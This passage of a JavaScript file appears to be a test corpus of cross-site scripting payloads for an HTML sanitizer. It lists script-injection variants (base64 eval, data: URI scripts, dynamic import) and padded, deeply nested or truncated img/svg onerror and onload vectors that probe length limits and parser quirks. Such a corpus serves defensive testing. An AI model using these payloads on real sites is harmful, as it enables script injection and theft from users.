  ({ js }) => `<script>//<script>\n${js}</script>`,
  ({ js }) => `<script>eval(atob("${base64(js)}"))</script>`,
  ({ js }) => `<script>[]["at"]["constructor"]("${js}")()</script>`,
  ({ id }) => `<script>top["__\\x72an"]\`${id}\`</script>`,
  ({ id }) => `<script>onerror=top.__ran;throw ${id}</script>`,
  ({ js }) => `<script>setTimeout("${js}")</script>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<script src=data:;base64,${base64(js)}></script>`,
  ({ js }) => `<script>import("data:text/javascript,${js}")</script>`,
  ({ js }) => `<script>document.write("<img src=x onerror=${js}>")</script>`,
  ({ js }) => `x<script>${js}</script><script>1</script>y`,
];

// ── at the limits ──────────────────────────────────────────────────────────

/** `make(filler)` filled so that the whole has exactly `length` characters. */
const filled = (length, make, char = "a") => make(char.repeat(Math.max(0, length - [...make("")].length)));
const nested = (tag, depth, inner) => `<${tag}>`.repeat(depth) + inner;
const limits = [
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`),
  ({ img }) => filled(LONGEST, (a) => `${img}${a}`),
  ({ js }) => filled(LONGEST, (a) => `<img src=${a} onerror=${js}>`),
  ({ js }) => filled(LONGEST, (a) => `<img src=x ${a}=1 onerror=${js}>`),
  ({ js }) => filled(LONGEST, (a) => `<img src=x alt="${a}" onerror=${js}>`, ">"),
  ({ js }) => filled(LONGEST, (a) => `<img src=x alt="${a}" onerror=${js}>`, "<"),
  ({ js }) => filled(LONGEST, (a) => `<x${a} onclick=${js}>x`),
  ({ js }) => filled(LONGEST, (a) => `<svg${a}onload=${js}>`, "/"),
  ({ img }) => filled(LONGEST, (a) => `<!--${a}-->${img}`, "-"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "<"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "&"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "👍"),
  ({ img }) => filled(LONGEST, (a) => `<b ${a}>${img}`, "\u0301"),
  ({ img }) => nested("b", 200, img),
  ({ img }) => nested("svg", 100, img),
  ({ img }) => nested("table", 100, img),
  ({ img }) => nested("form", 120, img),
  ({ img }) => nested("math", 60, nested("mtext", 60, img)),
  ({ img }) => nested("template", 90, img),
  ({ img }) => `${"<a href=x>".repeat(80)}${img}`,
  ({ img }) => `${"<b/>".repeat(200)}${img}`,
  ...each([1, 2, 5, 9, 14, 22], (cut, { js }) => `<img src=x onerror=${js} alt="long enough to be cut off">`.slice(0, -cut)),
  ...each([1, 3, 7], (cut, { js }) => filled(LONGEST + cut, (a) => `${a}<svg onload=${js}>`).slice(0, LONGEST)),
];

const KINDS = { handlers, attributes, addresses, mutation, broken, references, breakouts, styles, requests, clobber, templates, components, frames, svg, scripts, limits };
